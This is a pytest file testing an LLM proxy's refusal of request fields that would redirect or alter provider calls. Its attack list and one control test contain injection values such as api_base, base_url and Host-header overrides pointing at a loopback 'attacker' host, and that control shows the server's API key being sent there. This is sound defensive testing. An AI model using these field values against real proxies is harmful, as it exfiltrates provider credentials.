"""The proxy, attacked: a request field that would say where or how the provider is called is refused with
a 422 naming it, and nothing is called, neither the host the attacker names nor the server's own provider.

The server runs as in production (a real process, keys auth, the test Postgres) with a provider key in its
environment (`OPENAI_API_KEY`) and its OpenAI endpoint set to a loopback listener (`OPENAI_API_BASE`), so
a model call it makes is seen. A second listener plays the attacker's host. Positive controls: the server
does call its configured listener with its key for a plain request (so "received nothing" means
something), and litellm does send the key to the attacker's listener when `api_base` / `base_url` reach
it (what the proxy did before the allow-list: issue 12).
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import Engine

from om_core.tenancy import access
from tests.support.api_server import ApiServer, new_id, run_api_server
from tests.support.listener import REPLY, Listener, listening

pytestmark = [pytest.mark.postgres, pytest.mark.redis]

SECRET = "sk-server-secret-0123456789abcdef"


@pytest.fixture(scope="module")
def provider() -> Iterator[Listener]:
    """The host the server is configured to call for `openai/*`."""
    with listening() as listener:
        yield listener


@pytest.fixture(scope="module")
def attacker() -> Iterator[Listener]:
    """The host an attacker names in the request."""
    with listening() as listener:
        yield listener


@pytest.fixture(scope="module")
def server(
    postgres_url: str,
    redis_url: str,
    pg_engine: Engine,
    provider: Listener,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[ApiServer]:
    env = {
        "OPENAI_API_KEY": SECRET,
        "OPENAI_API_BASE": provider.url + "/v1",
        "OM_ACTOR_MODELS": "openai/*,om-actor/*",
    }
    with run_api_server(postgres_url, redis_url, tmp_path_factory.mktemp("attacked"), env=env) as api:
        yield api


@pytest.fixture(scope="module")
def key(pg_engine: Engine) -> str:
    return access.create_key(pg_engine, new_id("attacker"), "attacker").secret


def _post(server: ApiServer, key: str, body: dict[str, Any]) -> httpx.Response:
    headers = {"Authorization": f"Bearer {key}", "X-OM-Thread-Id": new_id("attack")}
    return httpx.post(f"{server.base_url}/v1/chat/completions", json=body, headers=headers, timeout=60)


def _request(stream: bool, **fields: Any) -> dict[str, Any]:
    return {
        "model": "openai/gpt-4o",
        "messages": [{"role": "user", "content": "hello"}],
        "stream": stream,
        **fields,
    }


def _attacks(url: str) -> dict[str, Any]:
    """Each refused field with a value that would redirect or alter the call if it were forwarded."""
    host = url.removeprefix("http://")
    return {
        "api_base": url + "/v1",
        "base_url": url + "/v1",
        "api_key": "sk-attacker",
        "api_version": "2024-10-21",
        "custom_llm_provider": "hosted_vllm",
        "headers": {"Host": host, "X-Forwarded-Host": host},
        "extra_headers": {"Host": host},
        "default_headers": {"Host": host},
        "extra_body": {"api_base": url + "/v1"},
        "timeout": 0.001,
        "request_timeout": 0.001,
        "num_retries": 50,
        "max_retries": 50,
        "mock_response": "a reply the provider never gave",
        "organization": "org-attacker",
        "deployment_id": "attacker-deployment",
        "model_list": [{"model_name": "openai/gpt-4o", "litellm_params": {"api_base": url + "/v1"}}],
        "litellm_metadata": {"api_base": url + "/v1"},
        "litellm_credential_name": "another-tenants-credential",
    }


ATTACK_FIELDS = sorted(_attacks("http://127.0.0.1:1"))


def test_the_attack_list_covers_what_the_issue_names() -> None:
    named = {
        "api_base",
        "base_url",
        "api_key",
        "api_version",
        "custom_llm_provider",
        "headers",
        "extra_headers",
        "extra_body",
        "timeout",
        "num_retries",
        "mock_response",
    }
    assert named <= set(ATTACK_FIELDS)
    assert any(name.startswith("litellm_") for name in ATTACK_FIELDS)


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "streamed"])
def test_the_server_calls_its_configured_provider_with_its_key(
    server: ApiServer, key: str, provider: Listener, stream: bool
) -> None:
    """Positive control: a call the server makes is seen by the provider listener, key included."""
    before = len(provider.received)
    response = _post(server, key, _request(stream))
    assert response.status_code == 200, response.text
    assert REPLY in response.text
    calls = provider.received[before:]
    assert len(calls) == 1
    assert calls[0].header("authorization") == f"Bearer {SECRET}"


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "streamed"])
@pytest.mark.parametrize("field", ATTACK_FIELDS)
def test_a_field_that_changes_the_call_is_refused_and_nothing_is_called(
    server: ApiServer, key: str, provider: Listener, attacker: Listener, field: str, stream: bool
) -> None:
    provider_before = len(provider.received)
    response = _post(server, key, _request(stream, **{field: _attacks(attacker.url)[field]}))
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert error["field"] == field
    assert error["code"] == "field_not_forwarded"
    assert "remove it" in error["message"]
    assert attacker.received == [], "the attacker's host was called"
    assert len(provider.received) == provider_before, "a model call was made for a refused request"
    assert SECRET not in response.text


@pytest.mark.parametrize(
    ("fields", "where"),
    [
        (
            {"tools": [{"type": "mcp", "server_url": "{url}/mcp/x", "require_approval": "never"}]},
            "tools[0].type",
        ),
        ({"stream_options": {"include_usage": True, "api_base": "{url}/v1"}}, "stream_options.api_base"),
        ({"response_format": {"type": "{url}"}}, "response_format.type"),
    ],
    ids=["mcp-tool", "stream-options", "response-format"],
)
def test_a_nested_value_that_is_not_plain_data_is_refused(
    server: ApiServer, key: str, provider: Listener, attacker: Listener, fields: dict[str, Any], where: str
) -> None:
    provider_before = len(provider.received)
    body = json.loads(json.dumps(_request(True, **fields)).replace("{url}", attacker.url))
    response = _post(server, key, body)
    assert response.status_code == 422, response.text
    assert response.json()["error"]["field"] == where
    assert attacker.received == []
    assert len(provider.received) == provider_before


@pytest.mark.parametrize("field", ["api_base", "base_url"])
def test_litellm_would_send_the_key_to_a_host_named_in_the_field(attacker: Listener, field: str) -> None:
    """Positive control for the refusals: forwarded, these fields deliver the server's key to the
    attacker's host (what the proxy did before the allow-list)."""
    import litellm

    before = len(attacker.received)
    reply = asyncio.run(
        litellm.acompletion(
            model="openai/gpt-4o",
            messages=[{"role": "user", "content": "hello"}],
            api_key=SECRET,
            num_retries=0,
            **{field: attacker.url + "/v1"},
        )
    )
    assert reply.choices[0].message.content == REPLY
    calls = attacker.received[before:]
    assert len(calls) == 1 and calls[0].header("authorization") == f"Bearer {SECRET}"


def test_no_server_log_line_holds_the_key(server: ApiServer) -> None:
    assert SECRET not in Path(server.log_path).read_text(errors="replace")
